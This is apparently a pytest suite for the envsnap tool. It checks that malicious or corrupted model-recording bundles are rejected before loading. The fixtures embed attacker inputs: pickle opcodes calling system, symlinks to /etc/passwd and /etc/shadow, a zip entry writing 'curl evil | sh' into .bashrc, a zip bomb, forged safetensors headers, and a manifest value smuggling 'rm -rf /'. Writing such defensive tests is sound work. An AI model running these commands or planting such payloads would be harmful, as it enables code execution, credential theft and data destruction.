"""Hostile and broken bundles are refused before anything is loaded: BadInput, exit 2, one line.

Each case starts from a real bundle recorded here and plants one thing an attacker (or a broken
copy) would: pickle, a symlink, zip path traversal, a zip bomb, a forged safetensors header with
huge shapes, a truncated member, a member that doesn't match the manifest. ``safetensors.torch.load``
is booby-trapped, so a test fails if any byte reached the deserializer.
"""

from __future__ import annotations

import json
import shutil
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

import envsnap
from envsnap.cli import run
from envsnap.errors import BadInput
from envsnap.inprocess.bundle.check import check_bundle, check_tensor_file
from tests.inprocess.record_models import make_input, make_net


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("good") / "baseline.envsnap"
    net = make_net()
    with envsnap.record(path, model=net, environment="none", repeats=1, warmup=0):
        net(make_input())
    return path


@pytest.fixture(autouse=True)
def no_deserializing(monkeypatch: pytest.MonkeyPatch) -> None:
    import safetensors.torch

    def trap(*args: object, **kwargs: object) -> None:
        raise AssertionError("a hostile bundle reached safetensors")

    monkeypatch.setattr(safetensors.torch, "load", trap)


def _copy(good: Path, tmp_path: Path) -> Path:
    target = tmp_path / "bundle"
    shutil.copytree(good, target)
    return target


def _zip(folder: Path, target: Path, extra: Callable[[zipfile.ZipFile], None] | None = None) -> Path:
    with zipfile.ZipFile(target, "w") as archive:
        for member in sorted(folder.iterdir()):
            archive.write(member, member.name)
        if extra is not None:
            extra(archive)
    return target


def _refused(path: Path, capsys: pytest.CaptureFixture[str], match: str) -> None:
    with pytest.raises(BadInput, match=match):
        envsnap.verify(path, model=make_net(), environment="none")
    capsys.readouterr()
    assert run(["verify", "inspect", str(path)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    assert "Traceback" not in err


def test_a_good_bundle_is_accepted_as_dir_and_as_zip(good: Path, tmp_path: Path) -> None:
    assert check_bundle(good).manifest.calls
    assert check_bundle(_zip(good, tmp_path / "b.zip")).manifest.calls


def test_pickle_member_is_refused(good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = _copy(good, tmp_path)
    (bundle / "weights.pkl").write_bytes(b"\x80\x04\x95cos\nsystem\n")
    _refused(bundle, capsys, "pickle")


def test_pickle_disguised_as_safetensors_is_refused(
    good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = _copy(good, tmp_path)
    (bundle / "activations.safetensors").write_bytes(b"\x80\x04\x95\x00\x00cposix\nsystem\n")
    _refused(bundle, capsys, "pickle")


def test_torch_save_zip_disguised_as_safetensors_is_refused(good: Path, tmp_path: Path) -> None:
    with pytest.raises(BadInput, match=r"pickle/torch\.save"):
        check_tensor_file(b"PK\x03\x04archive/data.pkl", "inputs.safetensors")


def test_symlinked_member_is_refused(good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = _copy(good, tmp_path)
    (bundle / "environment.yaml").symlink_to("/etc/passwd")
    _refused(bundle, capsys, "symlink")


def test_zip_path_traversal_is_refused(
    good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = _zip(good, tmp_path / "evil.zip", lambda z: z.writestr("../../.bashrc", "curl evil | sh"))
    _refused(bundle, capsys, "path traversal")


def test_zip_symlink_entry_is_refused(good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    def link(archive: zipfile.ZipFile) -> None:
        info = zipfile.ZipInfo("environment.yaml")
        info.external_attr = (0o120777 << 16) | 0
        archive.writestr(info, "/etc/shadow")

    folder = _copy(good, tmp_path)
    (folder / "environment.yaml").unlink(missing_ok=True)
    _refused(_zip(folder, tmp_path / "link.zip", link), capsys, "symlink")


def test_zip_bomb_is_refused(good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = _copy(good, tmp_path)
    (folder / "activations.safetensors").unlink()

    def bomb(archive: zipfile.ZipFile) -> None:
        archive.writestr(
            "activations.safetensors", b"\0" * (64 * 1024 * 1024), compress_type=zipfile.ZIP_DEFLATED
        )

    _refused(_zip(folder, tmp_path / "bomb.zip", bomb), capsys, "zip bomb")


def _forge(header: dict[str, object], data: bytes) -> bytes:
    text = json.dumps(header).encode()
    return struct.pack("<Q", len(text)) + text + data


@pytest.mark.parametrize(
    ("header", "data", "match"),
    [
        ({"x": {"dtype": "F32", "shape": [2**60, 2**60], "data_offsets": [0, 16]}}, b"\0" * 16, "sane"),
        ({"x": {"dtype": "F32", "shape": [2**20, 2**20], "data_offsets": [0, 16]}}, b"\0" * 16, "needs"),
        ({"x": {"dtype": "F32", "shape": [4], "data_offsets": [0, 2**62]}}, b"\0" * 16, "outside"),
        ({"x": {"dtype": "F32", "shape": [-1], "data_offsets": [0, 4]}}, b"\0" * 4, "sane"),
        ({"x": {"dtype": "PICKLE", "shape": [1], "data_offsets": [0, 1]}}, b"\0", "dtype"),
        ({"x": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
          "y": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, b"\0" * 12, "overlapping"),
        ({"__metadata__": {"a": 1}}, b"", "__metadata__"),
    ],
    ids=["huge-shape", "shape-beyond-data", "huge-offset", "negative-dim", "bad-dtype", "overlap",
         "metadata"],
)  # fmt: skip
def test_forged_safetensors_headers_are_refused(header: dict[str, object], data: bytes, match: str) -> None:
    with pytest.raises(BadInput, match=match):
        check_tensor_file(_forge(header, data), "activations.safetensors")


def test_header_length_beyond_the_file_and_duplicate_keys_are_refused() -> None:
    with pytest.raises(BadInput, match="header claims"):
        check_tensor_file(struct.pack("<Q", 2**60) + b"{}", "a.safetensors")
    dup = b'{"x": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}, "x": {}}'
    with pytest.raises(BadInput, match="duplicate"):
        check_tensor_file(struct.pack("<Q", len(dup)) + dup + b"\0", "a.safetensors")


def test_truncated_member_is_refused(good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bundle = _copy(good, tmp_path)
    member = bundle / "activations.safetensors"
    member.write_bytes(member.read_bytes()[:-7])
    _refused(bundle, capsys, "truncated|outside|after the last")


def test_member_changed_after_recording_is_refused(
    good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = _copy(good, tmp_path)
    member = bundle / "inputs.safetensors"
    data = bytearray(member.read_bytes())
    data[-1] ^= 0xFF  # a value byte: the header stays valid
    member.write_bytes(bytes(data))
    _refused(bundle, capsys, "sha256")


def test_unknown_member_and_missing_manifest_are_refused(
    good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = _copy(good, tmp_path)
    (bundle / "notes.txt").write_text("hi")
    _refused(bundle, capsys, "unexpected member")
    (bundle / "notes.txt").unlink()
    (bundle / "manifest.json").unlink()
    _refused(bundle, capsys, "no manifest.json")


def test_manifest_that_is_not_a_manifest_is_refused(
    good: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bundle = _copy(good, tmp_path)
    (bundle / "manifest.json").write_text('{"format": "envsnap-record", "schema": "1; rm -rf /"}')
    _refused(bundle, capsys, "not a valid bundle manifest")
